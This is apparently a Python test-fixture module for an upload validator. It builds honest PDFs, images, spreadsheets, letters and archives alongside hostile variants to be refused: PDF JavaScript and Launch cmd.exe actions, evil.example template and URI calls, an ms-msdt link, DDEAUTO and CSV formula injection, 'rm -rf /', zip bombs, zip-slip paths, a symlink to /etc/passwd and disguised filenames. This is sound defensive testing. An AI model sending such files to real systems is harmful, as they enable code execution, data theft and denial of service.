"""Files as suppliers send them, and files as attackers send them, all made here: nothing dangerous lies in the repository.

Every accepted file is real, made by a library that writes this format. Every rejected one is such a file with one thing
wrong, so that it is refused for that and for nothing else.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

from openpyxl import Workbook
from PIL import Image

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LETTER = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PAGE = b"<html><script>alert(1)</script></html>"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


@dataclass(frozen=True)
class Rejected:
    """A file that is refused; ``said`` stands in the sentence that says why. ``also`` as the field allows it."""

    name: str
    content: Callable[[], bytes]
    said: str
    also: tuple[str, ...] = ()


@dataclass(frozen=True)
class Accepted:
    name: str
    content: Callable[[], bytes]
    media_type: str
    also: tuple[str, ...] = ()


# -- honest files ---------------------------------------------------------------------------------------------------


@cache
def pdf(extra: bytes = b"", *, catalog: bytes = b"", pages: int = 1) -> bytes:
    """A PDF with some pages of text; ``extra`` are further objects (from number 20), ``catalog`` more entries of it."""
    kids = b" ".join(b"%d 0 R" % (5 + 2 * page) for page in range(pages))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for page in range(pages):
        text = zlib.compress(b"BT /F1 40 Tf 72 700 Td (Certificate, page %d) Tj ET" % (page + 1))
        objects[5 + 2 * page] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R >>" % (6 + 2 * page)
        )
        objects[6 + 2 * page] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(text), text)
    out, places = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for number, body in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    out.write(extra)
    start = out.tell()
    out.write(b"xref\n0 1\n0000000000 65535 f \n")
    for number, place in places.items():
        out.write(b"%d 1\n%010d 00000 n \n" % (number, place))
    size = max(places) + 40
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start))
    return out.getvalue()


def packed_objects(body: bytes, *, number: int = 31, filters: bytes = b"/FlateDecode") -> bytes:
    """An object stream that holds object ``number`` with this body."""
    head = b"%d 0 " % number
    packed = zlib.compress(head + body)
    return b"30 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d /Filter %s >>\nstream\n%s\nendstream\nendobj\n" % (
        len(head),
        len(packed),
        filters,
        packed,
    )


@cache
def picture(kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", (64, 48), "steelblue")
    image.paste("white", (10, 10, 30, 30))
    image.save(out, kind, **more)
    return out.getvalue()


def pages_of_tiff(count: int) -> bytes:
    out = io.BytesIO()
    images = [Image.new("1", (60, 80), shade % 2) for shade in range(count)]
    images[0].save(out, "TIFF", save_all=True, append_images=images[1:], compression="group4")
    return out.getvalue()


@cache
def sheet() -> bytes:
    out, book = io.BytesIO(), Workbook()
    page = book.active
    assert page is not None
    page.append(["Characteristic", "Nominal", "Result"])
    page.append(["Diameter 轴承", 12.5, 12.51])
    page["A4"] = "Drawing"
    page["A4"].hyperlink = "https://supplier.example/drawing"
    book.save(out)
    return out.getvalue()


def letter(**more: bytes) -> bytes:
    """A letter as Word writes it, cut down to what must be there."""
    return packed(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{LETTER}.main+xml"/></Types>'.encode(),
            "_rels/.rels": f'<Relationships {_RELATIONS}><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
            f'Target="word/document.xml"/></Relationships>'.encode(),
            "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            **more,
        }
    )


def packed(parts: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


STEP = b"ISO-10303-21;\nHEADER;\nFILE_SCHEMA(('AP214'));\nENDSEC;\nDATA;\n#1=POINT();\nENDSEC;\nEND-ISO-10303-21;\n"
DXF = b"999\nmade by hand\n  0\nSECTION\n  2\nENTITIES\n  0\nENDSEC\n  0\nEOF\n"
LIST = b"part;quantity;note\nA-1;5;-\nA-2;=2+3;+49 731 1234\n"

ACCEPTED: tuple[Accepted, ...] = (
    Accepted("certificate.pdf", pdf, "application/pdf"),
    Accepted("CERTIFICATE.PDF", lambda: pdf(pages=3), "application/pdf"),
    Accepted("opens on page 1.pdf", lambda: pdf(catalog=b"/OpenAction [5 0 R /Fit]"), "application/pdf"),
    Accepted(
        "goes to page 1.pdf", lambda: pdf(catalog=b"/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"), "application/pdf"
    ),
    Accepted(
        "packed.pdf",
        lambda: pdf(packed_objects(b"<< /S /GoTo /D [5 0 R /Fit] >>"), catalog=b"/OpenAction 31 0 R"),
        "application/pdf",
    ),
    Accepted("photo.png", lambda: picture("PNG"), "image/png"),
    Accepted("photo.jpg", lambda: picture("JPEG"), "image/jpeg"),
    Accepted("photo.jpeg", lambda: picture("JPEG", progressive=True, quality=50), "image/jpeg"),
    Accepted("two pictures.jpg", lambda: picture("JPEG") + picture("JPEG", quality=20), "image/jpeg"),
    Accepted("scan.tif", lambda: picture("TIFF"), "image/tiff"),
    Accepted("scans.tiff", lambda: pages_of_tiff(3), "image/tiff"),
    Accepted("measurements.xlsx", sheet, SHEET),
    Accepted("letter.docx", letter, LETTER),
    Accepted(
        "chart.docx", lambda: letter(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": sheet()}), LETTER
    ),
    Accepted("list.csv", lambda: LIST, "text/csv"),
    Accepted("清单.csv", lambda: "名称;数量\n轴承;3\n".encode("gb18030"), "text/csv"),
    Accepted("note.txt", lambda: "grüße".encode("utf-16"), "text/plain"),
    Accepted("note.txt", lambda: "tolerance < 0,1 & > 0,05 — größer".encode("cp1252"), "text/plain"),
    Accepted("iso.9001.v2.pdf", pdf, "application/pdf"),
    Accepted("part.stp", lambda: STEP, "model/step"),
    Accepted("part.STEP", lambda: STEP, "model/step"),
    Accepted("part.dxf", lambda: DXF, "image/vnd.dxf"),
    Accepted(
        "package.zip",
        lambda: packed({"certificates/iso.pdf": pdf(), "photo.png": picture("PNG"), "measured.xlsx": sheet()}),
        "application/zip",
        ("zip",),
    ),
)  # fmt: skip


# -- files with one thing wrong -------------------------------------------------------------------------------------


def _with_part(name: str, content: bytes) -> Callable[[], bytes]:
    """The honest sheet with one more part."""

    def make() -> bytes:
        with zipfile.ZipFile(io.BytesIO(sheet())) as archive:
            parts = {each: archive.read(each) for each in archive.namelist()}
        return packed({**parts, name: content})

    return make


def _relations(kind: str, target: str) -> bytes:
    return (
        f'<Relationships {_RELATIONS}><Relationship Id="r1" Type="{_OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def _promising_little() -> bytes:
    """A sheet whose directory says that a part has 1,000 bytes, while it unpacks to 30 MB."""
    content = bytearray(_with_part("xl/media/image1.emf", bytes(30_000_000))())
    place = content.rfind(b"xl/media/image1.emf") - 46
    assert content[place : place + 4] == b"PK\x01\x02"
    content[place + 24 : place + 28] = struct.pack("<I", 1_000)
    return bytes(content)


def _overlapping() -> bytes:
    """An archive in which many entries of the directory share one content, as in the bomb of D. Fifield (2019)."""
    one = packed({"a.txt": b"0" * 200_000})
    end = one.rfind(b"PK\x05\x06")
    start = one.rfind(b"PK\x01\x02", 0, end)
    entry = one[start:end]
    entries = b"".join(entry.replace(b"a.txt", b"%c.txt" % (97 + each)) for each in range(20))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 20, 20, len(entries), start, 0)
    return one[:start] + entries + tail


def _locked() -> bytes:
    """A sheet whose parts say that they are encrypted."""
    content = bytearray(sheet())
    place = -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        content[place + 8] |= 1
    return bytes(content)


def _link_in_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("readme.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def empty_png(side: int) -> bytes:
    """A picture that says that it has so many points on each side, and has none."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", zlib.compress(b"")) + _chunk(b"IEND", b"")


def png_with(kind: bytes, content: bytes) -> bytes:
    whole = picture("PNG")
    return whole[:33] + _chunk(kind, content) + whole[33:]


def _damaged_png() -> bytes:
    whole = bytearray(picture("PNG"))
    whole[whole.find(b"IDAT") + 8] ^= 0xFF
    return bytes(whole)


def _jpeg_with_comment(text: bytes) -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + whole[2:]


_JS = b"20 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
_ZIP = packed({"a.txt": b"hidden"})
_NO_PROGRAMS = "macros or programs"
_NOT = "not what its name says"
_ALSO_ZIP = ("zip",)


def _pdfs() -> Iterator[Rejected]:
    yield Rejected("cut.pdf", lambda: pdf()[:200], "not complete")
    yield Rejected("page before.pdf", lambda: PAGE + pdf(), _NOT)
    yield Rejected("page behind.pdf", lambda: pdf() + PAGE, "hidden behind its end")
    yield Rejected("page inside.pdf", lambda: pdf(b"% " + PAGE + b"\n"), "web page or a script")
    yield Rejected("archive behind.pdf", lambda: pdf() + _ZIP + b"\n%%EOF\n", "archive is hidden")
    yield Rejected("javascript.pdf", lambda: pdf(_JS, catalog=b"/OpenAction 20 0 R"), "JavaScript")
    yield Rejected("hidden name.pdf", lambda: pdf(_JS.replace(b"/JavaScript", b"/J#61va#53cript")), "JavaScript")
    yield Rejected("packed javascript.pdf", lambda: pdf(packed_objects(b"<< /S /JavaScript /JS (x) >>")), "JavaScript")
    yield Rejected(
        "other filter.pdf",
        lambda: pdf(packed_objects(b"<< >>", filters=b"[/ASCIIHexDecode /FlateDecode]")),
        "packed in a way",
    )
    yield Rejected(
        "bomb of objects.pdf",
        lambda: pdf(packed_objects(b"[" + b"0 " * 35_000_000 + b"]")),
        "unpack to far more",
    )
    yield Rejected("launch.pdf", lambda: pdf(b"20 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "start a program")
    yield Rejected(
        "embedded.pdf", lambda: pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"), "other files are packed"
    )
    yield Rejected(
        "attached.pdf",
        lambda: pdf(b"20 0 obj\n<< /Subtype /FileAttachment /FS << /EF << /F 21 0 R >> >> >>\nendobj\n"),
        "other files are packed",
    )
    yield Rejected(
        "opens an address.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"),
        "happen by itself",
    )
    yield Rejected(
        "opens more.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next 20 0 R >>"),
        "happen by itself",
    )
    yield Rejected(
        "opens a packed action.pdf",
        lambda: pdf(packed_objects(b"<< /S /URI /URI (http://evil.example) >>"), catalog=b"/OpenAction 31 0 R"),
        "happen by itself",
    )
    yield Rejected(
        "sends.pdf", lambda: pdf(b"20 0 obj\n<< /S /SubmitForm /F (http://x) >>\nendobj\n"), "reaches for other files"
    )
    yield Rejected(
        "share.pdf",
        lambda: pdf(b"20 0 obj\n<< /S /GoToE /F (\\\\\\\\evil\\\\share) >>\nendobj\n"),
        "reaches for other files",
    )
    yield Rejected("form.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA [(x) 20 0 R] >>"), "XFA")
    yield Rejected("film.pdf", lambda: pdf(b"20 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"), "films")
    yield Rejected(
        "encrypted.pdf", lambda: pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 20 0 R"), "encrypted or protected"
    )


def _pictures() -> Iterator[Rejected]:
    yield Rejected("archive behind.png", lambda: picture("PNG") + _ZIP, "hidden behind its end")
    yield Rejected("page behind.png", lambda: picture("PNG") + PAGE, "hidden behind its end")
    yield Rejected("page inside.png", lambda: png_with(b"tEXt", b"Comment\0" + PAGE), "web page or a script")
    yield Rejected("damaged.png", _damaged_png, "not complete")
    yield Rejected("cut.png", lambda: picture("PNG")[:-20], "not complete")
    yield Rejected("huge.png", lambda: empty_png(60_000), "million points")
    yield Rejected("archive behind.jpg", lambda: picture("JPEG") + _ZIP, "hidden behind its end")
    yield Rejected("page behind.jpg", lambda: picture("JPEG") + PAGE, "web page or a script")
    yield Rejected("pdf behind.jpg", lambda: picture("JPEG") + pdf(), "hidden behind its end")
    yield Rejected("program behind.jpg", lambda: picture("JPEG") + b"MZ\x90\0" * 20, "hidden behind its end")
    yield Rejected("page inside.jpg", lambda: _jpeg_with_comment(PAGE), "web page or a script")
    yield Rejected("cut.jpg", lambda: picture("JPEG")[:-2], "not complete")
    yield Rejected("archive behind.tif", lambda: picture("TIFF") + _ZIP, "archive is hidden")
    yield Rejected("page behind.tif", lambda: picture("TIFF") + PAGE, "web page or a script")
    yield Rejected("cut.tif", lambda: picture("TIFF")[:9], "not complete")
    yield Rejected("gif.png", lambda: picture("GIF"), _NOT)
    yield Rejected("photo.png", lambda: picture("JPEG"), _NOT)


def _sheets() -> Iterator[Rejected]:
    yield Rejected("bomb.xlsx", _with_part("xl/media/zeros.emf", bytes(60_000_000)), "unpack to far more")
    yield Rejected("lying bomb.xlsx", _promising_little, "unpack to far more")
    yield Rejected(
        "many parts.xlsx", lambda: packed({f"xl/{number}.xml": b"<a/>" for number in range(5_001)}), "unpack to far"
    )
    yield Rejected("overlapping.xlsx", _overlapping, "unpack to far more")
    yield Rejected("macros.xlsx", _with_part("xl/vbaProject.bin", b"x"), _NO_PROGRAMS)
    yield Rejected("old macros.xlsx", _with_part("xl/macrosheets/sheet1.xml", b"<a/>"), _NO_PROGRAMS)
    yield Rejected("control.xlsx", _with_part("xl/activeX/activeX1.xml", b"<a/>"), _NO_PROGRAMS)
    yield Rejected("program.xlsx", _with_part("xl/media/image9.png", b"MZ\x90\0"), _NO_PROGRAMS)
    yield Rejected("script.xlsx", _with_part("xl/run.js", b"1"), _NO_PROGRAMS)
    yield Rejected(
        "dde.xlsx", _with_part("xl/externalLinks/e.xml", b'<e><ddeLink ddeService="cmd"/></e>'), _NO_PROGRAMS
    )
    yield Rejected("ole.xlsx", _with_part("xl/embeddings/oleObject1.bin", OLE), "OLE object")
    yield Rejected("archive.xlsx", _with_part("xl/media/more.bin", _ZIP), "archive is hidden")
    yield Rejected(
        "linked.xlsx",
        _with_part("xl/externalLinks/_rels/e.xml.rels", _relations("externalLinkPath", "file:///c:/prices.xlsx")),
        "loads parts from another file",
    )
    yield Rejected(
        "template.docx",
        lambda: letter(
            **{"word/_rels/settings.xml.rels": _relations("attachedTemplate", "http://evil.example/t.dotm")}
        ),
        "loads parts from another file",
    )
    yield Rejected(
        "starts.docx",
        lambda: letter(**{"word/_rels/document.xml.rels": _relations("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        "links starts a program",
    )
    yield Rejected("dde.docx", lambda: letter(**{"word/a.xml": b"<w>DDEAUTO c:\\\\cmd.exe</w>"}), _NO_PROGRAMS)
    yield Rejected(
        "macros inside.docx",
        lambda: letter(**{"word/embeddings/S.xlsx": _with_part("xl/vbaProject.bin", b"x")()}),
        _NO_PROGRAMS,
    )
    yield Rejected(
        "entities.xlsx",
        _with_part("xl/a.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        _NOT,
    )
    yield Rejected("encrypted.xlsx", lambda: OLE, "protected by a password")
    yield Rejected("locked.xlsx", _locked, "protected by a password")
    yield Rejected("out.xlsx", _with_part("../../evil.xml", b"<a/>"), "not allowed")
    yield Rejected("page before.xlsx", lambda: PAGE + sheet(), _NOT)
    yield Rejected("page behind.xlsx", lambda: sheet() + PAGE, "hidden behind its end")
    yield Rejected("letter.xlsx", letter, _NOT)
    yield Rejected("only an archive.docx", lambda: _ZIP, _NOT)
    yield Rejected("lzma.xlsx", lambda: packed({"[Content_Types].xml": b"<a/>"}, method=zipfile.ZIP_LZMA), "in a way")


def _texts() -> Iterator[Rejected]:
    yield Rejected("page.txt", lambda: PAGE, "web page or a script")
    yield Rejected("page.csv", lambda: b"a;b\n" + b"1;2\n" * 40_000 + PAGE, "web page or a script")
    yield Rejected("page in utf-16.txt", lambda: PAGE.decode().encode("utf-16"), "web page or a script")
    yield Rejected("drawing.txt", lambda: b'<?xml version="1.0"?><svg onload="x()"/>', _NOT)
    yield Rejected("script.txt", lambda: b"#!/bin/sh\nrm -rf /\n", _NOT)
    yield Rejected("letter.txt", lambda: b"{\\rtf1 hello}", _NOT)
    yield Rejected("binary.txt", lambda: b"\x00\x01\x02" * 50, _NOT)
    yield Rejected("program.csv", lambda: b"MZ\x90\x00\x03\x00", _NOT)
    yield Rejected("calc.csv", lambda: b"a;b\n=cmd|'/C calc'!A0;2\n", "start a program")
    yield Rejected("part.step", lambda: LIST, _NOT)
    yield Rejected("cut.stp", lambda: STEP[:60], "not complete")
    yield Rejected("script.step", lambda: STEP.replace(b"POINT", PAGE), "web page or a script")
    yield Rejected("binary.dxf", lambda: b"AutoCAD Binary DXF\r\n\x1a\x00", "binary DXF")
    yield Rejected("part.dxf", lambda: STEP, _NOT)
    yield Rejected("cut.dxf", lambda: DXF[:-6], "not complete")


def _names() -> Iterator[Rejected]:
    for ending in ("exe", "js", "hta", "lnk", "bat", "rtf", "gif", "eml", "dwg"):
        yield Rejected(f"invoice.{ending}", lambda: b"MZ\x90\0", f"ending in .{ending}")
    for ending in ("svg", "html", "htm", "xml", "mht"):
        yield Rejected(f"drawing.{ending}", lambda: PAGE, "can hold programs")
    for ending in ("xlsm", "docm", "xls", "doc", "xlsb"):
        yield Rejected(f"list.{ending}", sheet, "can hold macros")
    for ending in ("zip", "7z", "rar", "gz"):
        yield Rejected(f"all.{ending}", lambda: _ZIP, "archives are not taken")
    yield Rejected("invoice.pdf.exe", pdf, "ending in .exe")
    yield Rejected("invoice.exe.pdf", pdf, "two kinds of file")
    yield Rejected("photo.html.png", lambda: picture("PNG"), "two kinds of file")
    yield Rejected("invoice\u202efdp.exe", lambda: b"MZ\x90\0", "ending in .exe")
    yield Rejected("invoice.pdf\x00.exe", pdf, "ending in .exe")
    yield Rejected("invoice.exe .", lambda: b"MZ\x90\0", "ending in .exe")
    yield Rejected("invoice", pdf, "does not say what kind")
    yield Rejected("empty.pdf", lambda: b"", "is empty")
    yield Rejected("empty.csv", lambda: b"", "is empty")
    yield Rejected("photo.pdf", lambda: picture("PNG"), _NOT)
    yield Rejected("program.pdf", lambda: b"MZ\x90\0", _NOT)
    yield Rejected("sheet.pdf", sheet, _NOT)


def _archives() -> Iterator[Rejected]:
    """Where a field takes archives, everything in them must be what would be taken by itself."""
    for name, parts, said in (
        ("program.zip", {"setup.exe": b"MZ\x90\0"}, "setup.exe inside of it"),
        ("macros.zip", {"a.xlsx": _with_part("xl/vbaProject.bin", b"x")()}, _NO_PROGRAMS),
        ("nested.zip", {"inner.zip": _ZIP}, "inner.zip inside of it"),
        ("renamed.zip", {"inner.pdf": _ZIP}, "inner.pdf inside of it"),
        ("javascript.zip", {"ok.png": picture("PNG"), "a.pdf": pdf(_JS)}, "a.pdf inside of it"),
        ("slip.zip", {"../../a.txt": b"x"}, "not allowed"),
        ("twice.zip", {"a.txt": b"x", "A.TXT": b"y"}, "not allowed"),
        ("bomb.zip", {"a.txt": b"0" * 60_000_000}, "unpack to far more"),
        ("nothing.zip", {}, _NOT),
    ):
        yield Rejected(name, lambda parts=parts: packed(parts), said, _ALSO_ZIP)  # type: ignore[misc]
    yield Rejected("link.zip", _link_in_archive, "not allowed", _ALSO_ZIP)
    yield Rejected("overlapping.zip", _overlapping, "unpack to far more", _ALSO_ZIP)


REJECTED: tuple[Rejected, ...] = (
    *_pdfs(), *_pictures(), *_sheets(), *_texts(), *_names(), *_archives(),
)  # fmt: skip
